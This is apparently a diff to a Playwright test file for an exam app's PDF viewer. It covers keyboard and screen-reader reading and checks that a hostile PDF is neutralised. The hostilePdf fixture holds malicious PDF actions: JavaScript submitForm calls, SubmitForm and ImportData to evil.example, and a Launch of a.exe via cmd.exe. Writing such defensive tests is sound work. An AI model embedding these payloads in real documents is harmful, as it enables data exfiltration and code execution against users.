@@ -81,7 +81,7 @@ const spokenHeadings = async (page: Page) => {
   return nodes.flatMap(({ role, nodeId }) => (role?.value === 'heading' ? [textOf(nodeId)] : []))
 }
 
-// PDF-301 PDF-303 PDF-305 PDF-306
+// PDF-301 PDF-303 PDF-304 PDF-305 PDF-306
 test('a PDF is read beside its question by keyboard: pages, search, headings, links within it, and told to a screen reader', async ({
   page,
   sitwell,
@@ -89,11 +89,13 @@ test('a PDF is read beside its question by keyboard: pages, search, headings, li
   const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': rules }))
   const asked: string[] = []
   page.on('request', (request) => asked.push(new URL(request.url()).host))
+  const read = threadsOf(page)
   await signIn(page, arranged)
   await open(page, arranged.exams[0]?.examGuid ?? '')
   await opener(page).focus()
   await page.keyboard.press('Enter')
   await expect(textOf(page, 1)).toContainText('Vessels keep to the starboard side.')
+  expect(await read()).toEqual(['newer'])
   const shown = viewer(page)
   const pages = shown.getByRole('group', { name: 'Pages of the document' })
   await expect(pages).toBeFocused()
@@ -229,30 +231,63 @@ const keptFiles = async () => {
   return count
 }
 
+/** How many lines of the hostile PDF lead somewhere. */
+const hostileLinks = 12
+
+/** What a file may ask of a viewer: to run, to open, to send, to print, to hand out what is in it; on opening it, on each of its pages, on each press. */
+const hostilePdf = () => {
+  const evil = '(https://evil.example/)'
+  const runs = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\); this.print\\(\\))`
+  const sends = `/S /SubmitForm /F << /FS /URL /F ${evil} >> /Flags 4`
+  const actions = {
+    Run: runs,
+    Out: `/S /URI /URI ${evil}`,
+    Relative: '/S /URI /URI (../../../login?nobody)',
+    Script: '/S /URI /URI (javascript:print\\(\\))',
+    Launch: '/S /Launch /F (https://evil.example/a.exe) /Win << /F (cmd.exe) >> /NewWindow true',
+    Other: `/S /GoToR /F (https://evil.example/b.pdf) /D [0 /Fit] /NewWindow true`,
+    Inside: '/S /GoToE /T << /R /C /N (inside.pdf) >> /D [0 /Fit] /NewWindow true',
+    Send: sends,
+    Import: `/S /ImportData /F ${evil}`,
+    Print: '/S /Named /N /Print',
+    Save: '/S /Named /N /SaveAs',
+    Then: `/S /Named /N /NextPage /Next << ${runs} >>`,
+  }
+  return pdfFile({
+    pages: [
+      {
+        lines: ['Hostile'],
+        links: Object.entries(actions).map(([text, action]) => ({ text, action })),
+        annotations: [
+          `/Subtype /Widget /FT /Btn /Ff 65536 /T (send) /MK << /CA (Send) >> /A << ${sends} >> /AA << /D << ${runs} >> >>`,
+          `/Subtype /Widget /FT /Tx /T (name) /V (Ada) /AA << /K << ${runs} >> /C << ${runs} >> /Fo << ${runs} >> >>`,
+          `/Subtype /FileAttachment /FS << /Type /Filespec /F (inside.html) >> /Contents (inside) /A << ${runs} >>`,
+          `/Subtype /Screen /A << /S /Rendition /JS (app.alert\\(2\\)) /OP 0 >> /AA << /PO << ${runs} >> >>`,
+        ],
+        more: `/AA << /O << ${runs} >> /C << ${sends} >> >>`,
+      },
+    ],
+    objects: [{ dictionary: '/Type /EmbeddedFile /Subtype /text#2Fhtml', content: '<script>parent.print()</script>' }],
+    catalog: ([file]) =>
+      `/OpenAction << ${runs} >> /AA << /WC << ${runs} >> /DP << ${runs} >> >>
+      /AcroForm << /Fields [] /NeedAppearances true /CO [] >>
+      /Names << /JavaScript << /Names [(a) << ${runs} >>] >>
+        /EmbeddedFiles << /Names [(inside.pdf) << /Type /Filespec /F (inside.html) /EF << /F ${file} 0 R >> >>] >> >>`,
+  })
+}
+
 // PDF-302 PDF-307
 test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says so, and the exam goes on', async ({
   page,
   sitwell,
 }) => {
-  const hostile = pdfFile({
-    pages: [
-      {
-        lines: ['Hostile'],
-        links: [
-          { text: 'Run', script: 'app.alert(1); this.submitForm("https://evil.example/")' },
-          { text: 'Out', url: 'https://evil.example/' },
-        ],
-      },
-    ],
-    script: 'app.launchURL("https://evil.example/")',
-  })
   const files = {
     'resources/rules.pdf': rules,
-    'resources/hostile.pdf': hostile,
-    'resources/locked.pdf': pdfFile({ pages: pagesOf(2), password: 'sesame' }),
+    'resources/hostile.pdf': hostilePdf(),
+    'resources/locked.pdf': pdfFile({ pages: pagesOf(10), password: 'sesame' }),
     'resources/damaged.pdf': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 'x')]),
     'resources/boundless.pdf': pdfFile({ pages: pagesOf(1), times: 5001 }),
-    'resources/gone.pdf': pdfFile({ pages: pagesOf(3) }),
+    'resources/gone.pdf': pdfFile({ pages: pagesOf(11) }),
   }
   const arranged = await sitwell.arrange(world(files))
   const outside: string[] = []
@@ -260,7 +295,14 @@ test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says
     if (!request.url().startsWith(sitwell.origin) && !request.url().startsWith('blob:')) outside.push(request.url())
   })
   page.on('dialog', (dialog) => outside.push(dialog.message()))
+  page.on('download', (file) => outside.push(file.url()))
   page.context().on('page', (other) => outside.push(other.url()))
+  await page.exposeFunction('leadsOut', (how: string) => outside.push(how))
+  await page.addInitScript(() => {
+    const { leadsOut } = window as unknown as { leadsOut(how: string): void }
+    window.print = () => leadsOut('printed')
+    window.open = () => (leadsOut('opened'), null)
+  })
   await page.route('**/gone.pdf*', (route) =>
     route.continue({
       url: route
@@ -276,11 +318,27 @@ test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says
   await startExam(page)
 
   await opener(page, 'Hostile').click()
-  const links = viewer(page, 'Hostile').getByRole('link')
-  await expect(viewer(page, 'Hostile').locator('.textLayer')).toContainText('Hostile')
-  await expect(links).toHaveCount(1)
-  await links.first().click({ button: 'middle', force: true })
-  await links.first().click({ force: true })
+  const hostile = viewer(page, 'Hostile')
+  await expect(hostile.locator('.textLayer')).toContainText('Hostile')
+  // What leads somewhere is told of by name and led nowhere; nothing can be typed into, or handed in.
+  await expect(hostile.getByRole('link', { name: 'leads out of the document' }).first()).toBeVisible()
+  const layer = hostile.locator('.annotationLayer')
+  await expect(layer.locator('a[href], input, textarea, select, button, form')).toHaveCount(0)
+  const address = page.url()
+  const targets = layer.locator('section, a')
+  expect(await targets.count()).toBeGreaterThan(hostileLinks)
+  for (const target of await targets.all()) {
+    if (await target.isVisible()) {
+      await target.click({ button: 'middle', force: true })
+      await target.dblclick({ force: true })
+    }
+    await target.evaluate((element: HTMLElement) => {
+      for (const press of ['click', 'auxclick', 'dblclick']) element.dispatchEvent(new MouseEvent(press, { bubbles: true }))
+      element.focus()
+      for (const key of ['Enter', ' ']) element.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }))
+    })
+  }
+  expect(page.url()).toBe(address)
 
   await opener(page, 'Locked').click()
   const locked = viewer(page, 'Locked')
@@ -291,7 +349,8 @@ test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says
   await locked.getByRole('textbox', { name: 'Password of the document' }).fill('sesame')
   await page.keyboard.press('Enter')
   await expect(locked.locator('.textLayer').first()).toContainText('starboard')
-  await expect(locked.getByRole('navigation').getByRole('listitem')).toHaveCount(2)
+  await expect(locked.getByRole('navigation').getByRole('listitem')).toHaveCount(10)
+  await expect(locked.getByRole('progressbar')).toHaveCount(0)
 
   for (const [name, says] of [
     ['Damaged', 'Its file is damaged.'],
@@ -304,6 +363,8 @@ test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says
   await page.unroute('**/gone.pdf*')
   await viewer(page, 'Gone').getByRole('button', { name: 'Try again' }).click()
   await expect(viewer(page, 'Gone').locator('.textLayer').first()).toContainText('starboard')
+  await expect(viewer(page, 'Gone').getByRole('progressbar')).toHaveJSProperty('max', 11)
+  await expect(viewer(page, 'Gone').getByRole('navigation').getByRole('listitem')).toHaveCount(0)
   await viewer(page, 'Gone').getByRole('button', { name: 'Close the document' }).click()
   await page.getByRole('radio', { name: 'Sail' }).check({ force: true })
   await expect(page.getByTestId('saved-state')).toHaveText('Saved')
